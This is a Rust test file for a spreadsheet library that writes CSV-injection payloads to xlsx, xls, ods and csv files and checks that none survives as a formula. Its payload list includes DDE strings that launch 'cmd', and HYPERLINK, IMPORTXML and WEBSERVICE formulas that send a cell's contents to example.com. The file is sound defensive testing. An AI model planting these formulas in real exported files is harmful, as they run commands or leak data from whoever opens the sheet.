//! Texts that a spreadsheet program would run: none is a formula in what is written, and every one reads back as it was.
//! `benches/injection.py` opens the same files in LibreOffice.

use std::io::Read;
use std::path::{Path, PathBuf};

use leadsheet::{FileKind, Sheet, Templates, Value, Values, Workbook, WorkbookKind};

/// What an attacker writes, and what honest people write that looks like it (CWE-1236; the OWASP page on CSV injection).
const PAYLOADS: [&str; 44] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://example.com/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.com/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=\"text\"",
    "=",
    "==1",
    "=-1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "+HYPERLINK(\"http://example.com\")",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(A1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "'",
    "\"=1+1\"",
    "\"",
    "a\",=1+1,\"b",
    "a\r\n=1+1",
    "a;=1+1",
    "a\t=1+1",
    "%0A=1+1",
    "\u{FEFF}=1+1",
    "=1+1\";=cmd|' /C calc'!A0;\"",
    "#REF!+1",
    "{=1+1}",
];

/// What honest people write: a spreadsheet must not run it, nor anybody change it.
const HONEST: [&str; 8] = [
    "+86 138 0000 0001",
    "+8613800000001",
    "-5",
    "-12.5%",
    "=",
    "----",
    "@客户经理",
    "- 已联系\n- 待回访",
];

fn workbook() -> Workbook {
    let mut sheet = Sheet {
        name: "跟进".to_owned(),
        values: Values::new(std::sync::Arc::default()),
        ..Sheet::default()
    };
    let all = PAYLOADS.iter().chain(&HONEST);
    for (row, text) in (0..).zip(all) {
        // Between others, as it stands in a table, and last in its line.
        for (column, text) in (0..).zip(["客户", text, "备注", text]) {
            let id = sheet.values.add(Value::Text(text)).unwrap();
            sheet.grid.set(leadsheet::CellRef::new(row, column), id);
        }
    }
    Workbook {
        kind: FileKind::Xlsx,
        sheets: vec![sheet],
        notices: Vec::new(),
    }
}

/// The same in every format, under this folder.
fn written(folder: &Path) -> Vec<(&'static str, PathBuf)> {
    let workbook = workbook();
    let save = |name: &str, bytes: &[u8]| {
        let path = folder.join("payloads").with_extension(name);
        std::fs::write(&path, bytes).unwrap();
        path
    };
    let composed = |kind| {
        let (bytes, _) = leadsheet::compose(&workbook, &Templates::builtin(), kind).unwrap();
        bytes
    };
    let table = leadsheet::OutputTable::of_sheet(&workbook.sheets[0]).unwrap();
    let (csv, guarded) = leadsheet::to_csv(&table).unwrap();
    assert!(guarded >= 40, "{guarded}");
    vec![
        ("xlsx", save("xlsx", &composed(WorkbookKind::Xlsx))),
        ("xls", save("xls", &composed(WorkbookKind::Xls))),
        ("ods", save("ods", &composed(WorkbookKind::Ods))),
        ("csv", save("csv", &csv)),
    ]
}

#[test]
fn every_text_reads_back_as_it_was() {
    let folder = tempfile::tempdir().unwrap();
    for (format, path) in written(folder.path()) {
        let read = leadsheet::open(&path).unwrap();
        assert!(read.sheets[0].formulas.is_empty(), "{format}");
        // A `.csv` has the letters of the columns above.
        let below = u32::from(format == "csv");
        let all = PAYLOADS.iter().chain(&HONEST);
        for (row, &text) in (below..).zip(all) {
            for column in [1, 3] {
                let found = read.sheets[0].value(leadsheet::CellRef::new(row, column));
                // A number in a `.csv` is one again; it reads the same.
                assert_eq!(found.display(), text, "{format}, row {row}");
            }
        }
    }
}

#[test]
fn no_file_holds_a_formula() {
    let folder = tempfile::tempdir().unwrap();
    if let Some(kept) = std::env::var_os("LEADSHEET_KEEP") {
        keep(Path::new(&kept));
    }
    for (format, path) in written(folder.path()) {
        match format {
            "xlsx" => {
                let sheet = part(&path, "xl/worksheets/sheet1.xml");
                assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
                assert!(!part(&path, "[Content_Types].xml").contains("external"));
            }
            "ods" => {
                let content = part(&path, "content.xml");
                assert!(!content.contains("table:formula"), "{content}");
                assert!(!content.contains("table:dde-link") && !content.contains("xlink:href"));
            }
            "xls" => assert_eq!(formula_records(&path), 0),
            _ => no_field_begins_a_formula(&path),
        }
    }
}

/// Leaves the files for other programs to open, and what should be in them, a line each in ASCII.
fn keep(folder: &Path) {
    written(folder);
    let all = PAYLOADS.iter().chain(&HONEST);
    let line = |text: &&str| -> String {
        let escaped = text.bytes().map(|byte| match byte {
            b'\\' | 0..=31 | 127.. => format!("\\x{byte:02x}"),
            plain => char::from(plain).to_string(),
        });
        escaped.collect::<String>() + "\n"
    };
    let lines: String = all.map(line).collect();
    std::fs::write(folder.join("payloads.txt"), lines).unwrap();
}

fn part(path: &Path, name: &str) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut package = zip::ZipArchive::new(file).unwrap();
    let mut text = String::new();
    package
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// Records of formulas, and of what links to other programs (MS-XLS §2.4.127, §2.4.260, §2.4.4, §2.4.93, §2.4.140).
fn formula_records(path: &Path) -> usize {
    let mut file = cfb::open(path).unwrap();
    let mut stream = Vec::new();
    file.open_stream("Workbook")
        .unwrap()
        .read_to_end(&mut stream)
        .unwrap();
    let (mut at, mut found) = (0, 0);
    while let Some(&[a, b, c, d]) = stream
        .get(at..at + 4)
        .and_then(|head| head.first_chunk::<4>())
    {
        let id = u16::from_le_bytes([a, b]);
        found += usize::from(matches!(id, 0x0006 | 0x04BC | 0x0221 | 0x0051 | 0x01B8));
        at += 4 + usize::from(u16::from_le_bytes([c, d]));
    }
    assert!(at > 1_000, "the stream was walked to its end");
    found
}

/// Fields as any program takes them apart: behind a delimiter or a line, quoted or not. None begins with what makes a
/// formula, but for signed numbers.
fn no_field_begins_a_formula(path: &Path) {
    let text = std::fs::read_to_string(path).unwrap();
    let fields: Vec<String> = fields(text.trim_start_matches('\u{FEFF}'));
    assert_eq!(fields.len(), 4 * (1 + PAYLOADS.len() + HONEST.len()));
    for field in fields {
        let mut characters = field.chars();
        let begins = characters.next();
        let is_number = characters.all(|it| it.is_ascii_digit() || " .%-()".contains(it));
        let runs = matches!(begins, Some('=' | '@' | '\t' | '\r' | '＝' | '＠'))
            || matches!(begins, Some('+' | '-' | '＋' | '－')) && !is_number;
        assert!(!runs, "{field:?}");
    }
}

/// RFC 4180, by hand: what is compared with our writer is not made of our reader.
fn fields(text: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        let field = fields.last_mut().unwrap();
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                field.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => fields.push(String::new()),
            '\r' if !quoted && characters.peek() == Some(&'\n') => {
                characters.next();
                fields.push(String::new());
            }
            other => field.push(other),
        }
    }
    fields.pop();
    fields
}
